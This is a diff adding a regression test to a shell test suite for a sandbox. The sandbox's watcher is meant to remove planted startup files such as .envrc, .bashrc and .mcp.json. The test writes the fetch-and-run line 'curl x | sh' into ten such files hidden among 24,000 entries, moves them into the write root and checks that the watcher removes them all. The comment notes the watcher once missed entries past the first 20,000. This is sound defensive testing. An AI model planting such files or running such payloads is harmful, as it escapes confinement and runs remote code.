@@ -15,6 +15,8 @@
 #       directories at the top of the write root at the start: refused; a directory the
 #       command makes past the limit stops the run before a .envrc it
 #       writes there can stay.
+#  7:   a directory of 24,000 entries moved into the write root is read
+#       whole for protected names.
 . "$(dirname "$0")/lib.sh"
 need_bwrap
 P="$WORK/proj"
@@ -61,4 +63,20 @@ rm -rf "$P"/t* "$P/ran"
 rc=$?
 attempt H1 "out of descriptors during the run: stopped, no .envrc left (exit $rc, $(grep -v '^deny' "$WORK/out" | head -c 300))" \
 	sh -c "[ $rc -ne 0 ] && ! grep -qs curl '$P/d1000/.envrc' '$P/d999/.envrc'"
+rm -rf "$P"/d*
+
+# 7: a directory filled where nothing is watched (two levels down), with
+# 24,000 files and ten protected names, then moved to the top of the
+# write root: the watcher reads it whole (it read the first 20,000 entries
+# only, so names past them in the directory's order stayed: with ten
+# names in 24,010 entries at least one lay past them 9 times in 10)
+names=".envrc .mcp.json .npmrc .yarnrc.yml .bash_logout .zlogin .zlogout .bashrc .profile .zshrc"
+srt__run -s "$S" -c "mkdir -p a/b/x && cd a/b/x && $PY -c '
+import sys
+for i in range(24000): open(\"f%d\" % i, \"w\").close()
+for n in sys.argv[1:]: open(n, \"w\").write(\"curl x | sh\\n\")
+' $names && cd '$P' && mv a/b/x x && sleep 1" >"$WORK/out" 2>&1
+left=$(cd "$P/x" 2>/dev/null && grep -ls curl $names)
+attempt H1 "ten protected names in a 24,000-entry directory moved into the write root: none left (${left:-none}, $(ls "$P/x" 2>/dev/null | wc -l) entries)" \
+	sh -c "[ -d '$P/x' ] && [ -z '$left' ]"
 echo "1..$_tap_n"
